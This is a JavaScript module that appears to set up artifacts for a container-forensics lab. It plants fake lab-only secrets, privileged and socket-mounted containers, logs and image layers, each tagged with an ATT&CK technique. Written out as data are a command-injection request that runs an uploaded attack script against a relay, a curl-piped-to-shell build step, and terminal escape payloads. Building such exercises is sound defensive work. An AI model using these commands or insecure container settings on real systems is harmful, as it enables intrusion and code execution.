import { apiJson, lstat, stat } from '../host.mjs';
import * as hostile from '../hostile.mjs';
import { change, container, content, expect, file, find, logOf, running } from '../look.mjs';
import { AGENT, EXEC_STAYS, EXEC_WORDS, MIGRATE, PORT, RELAY, WEB } from '../stage.mjs';
import { env, made } from './made.mjs';

/** What the engine knows: configuration, events, logs, stopped containers, images. */
export function engineItems(facts) {
  return [
    made(
      'environment-secret',
      'config',
      WEB,
      ['T1552.001'],
      'secrets in the environment',
      { pointer: '/Config/Env', string: 'AWS_SECRET_ACCESS_KEY=labOnly/wJalrXUtnFEMI/NOTAKEY' },
      (s) => env(s, WEB, 'AWS_SECRET_ACCESS_KEY=labOnly/wJalrXUtnFEMI/NOTAKEY'),
    ),
    made(
      'open-port',
      'config',
      WEB,
      [],
      'a port published on all addresses',
      { pointer: `/HostConfig/PortBindings/${PORT}~1tcp`, string: '0.0.0.0' },
      (s) => expect(container(s, WEB).HostConfig.PortBindings[`${PORT}/tcp`][0].HostIp === '0.0.0.0', 'it is not'),
    ),
    made(
      'privileged',
      'config',
      AGENT,
      ['T1610', 'T1611'],
      'a privileged container',
      { pointer: '/HostConfig/Privileged' },
      (s) => expect(container(s, AGENT).HostConfig.Privileged && running(s, AGENT), 'it is not'),
    ),
    made(
      'engine-socket',
      'config',
      AGENT,
      ['T1611', 'T1609'],
      'the engine’s socket is mounted into a container',
      { pointer: '/HostConfig/Binds', string: '/var/run/docker.sock' },
      (s) => expect(stat(file(s, '/var/run/docker.sock', AGENT))?.isSocket(), 'it is not'),
    ),
    made(
      'host-root-mount',
      'config',
      AGENT,
      ['T1611'],
      'the host’s root is mounted into a container',
      { pointer: '/HostConfig/Binds', string: '/:/host' },
      (s) => {
        content(s, '/host/etc/hostname', AGENT);
      },
    ),
    made(
      'exec-event',
      'event',
      WEB,
      ['T1609'],
      'a command was run through the API; only the engine’s events have its words',
      { string: `exec_create: ${EXEC_WORDS.join(' ')}` },
      (s) =>
        expect(
          s.events.some(
            ({ Actor, Action }) => Actor.ID === facts.ids[WEB] && Action === `exec_create: ${EXEC_WORDS.join(' ')}`,
          ),
          'the engine no longer has its event',
        ),
    ),
    made(
      'exec-running',
      'process',
      AGENT,
      ['T1609'],
      'a privileged exec that is still running',
      { string: EXEC_STAYS[2] },
      (s) => {
        find.kept(s);
        expect(container(s, AGENT).ExecIDs?.length > 0, 'the engine lists no exec');
      },
      find.kept,
    ),
    made(
      'web-log',
      'log',
      WEB,
      ['T1190'],
      'the service’s log has the intruder’s request',
      { string: '/ping?host=;exec sh /srv/shop/uploads/attack.sh' },
      async (s) =>
        expect(
          (await logOf(s, WEB)).includes(`/ping?host=;exec sh /srv/shop/uploads/attack.sh ${RELAY}`),
          'it does not',
        ),
    ),
    made(
      'hostile-agent',
      'log',
      WEB,
      [],
      'a log line with escape sequences, sent as a User-Agent',
      { string: hostile.ESCAPES },
      async (s) => {
        const log = await logOf(s, WEB);
        for (const text of [hostile.ESCAPES, hostile.HTML, hostile.BIDI])
          expect(log.includes(text), 'a hostile line is missing');
      },
    ),
    made(
      'relay-log',
      'log',
      RELAY,
      ['T1059.004', 'T1059'],
      'what the intruder’s shell answered is in the relay’s log',
      { string: 'uid=0(root)' },
      async (s) => expect((await logOf(s, RELAY)).includes('uid=0(root)'), 'it is not'),
    ),
    made(
      'stopped-container',
      'config',
      MIGRATE,
      [],
      'a stopped container with exit status 3 and its log',
      { pointer: '/State/ExitCode', string: 'error: connection reset' },
      async (s) => {
        const { Running, ExitCode } = container(s, MIGRATE).State;
        expect(
          !Running && ExitCode === 3 && (await logOf(s, MIGRATE)).includes('error: connection reset'),
          'its state or log is another',
        );
      },
    ),
    made(
      'stopped-loot',
      'file',
      MIGRATE,
      ['T1003.008'],
      'a file in a stopped container',
      { path: '/root/loot.txt' },
      (s) => change(s, '/root/loot.txt', 1, MIGRATE),
    ),
    made(
      'image-layers',
      'image',
      WEB,
      [],
      'an image of four layers',
      { image: 'shop/web:1.4.2', layers: facts.webLayers },
      async (s) => {
        const found = (await apiJson(s.host, '/images/shop/web:1.4.2/json')).RootFS.Layers;
        expect(JSON.stringify(found) === JSON.stringify(facts.webLayers), 'it has other layers');
      },
    ),
    made(
      'image-secret',
      'image',
      WEB,
      ['T1552.001'],
      'a secret in a lower layer that a later layer removed',
      {
        image: 'shop/web:1.4.2',
        layer: facts.webLayers[1],
        path: '/srv/shop/.env',
        string: 'sk_live_51LabOnlyNotAKey',
      },
      (s) => expect(!lstat(file(s, '/srv/shop/.env')), 'the container still shows it'),
    ),
    made(
      'image-history',
      'image',
      WEB,
      ['T1105'],
      'a build step that pipes a download into a shell',
      { image: 'shop/web:1.4.2', string: 'curl -fsSL http://update-cdn.example/setup.sh | sh' },
      async (s) =>
        expect(
          (await apiJson(s.host, '/images/shop/web:1.4.2/history')).some((step) =>
            step.CreatedBy.includes('setup.sh | sh'),
          ),
          'no such step',
        ),
    ),
  ];
}
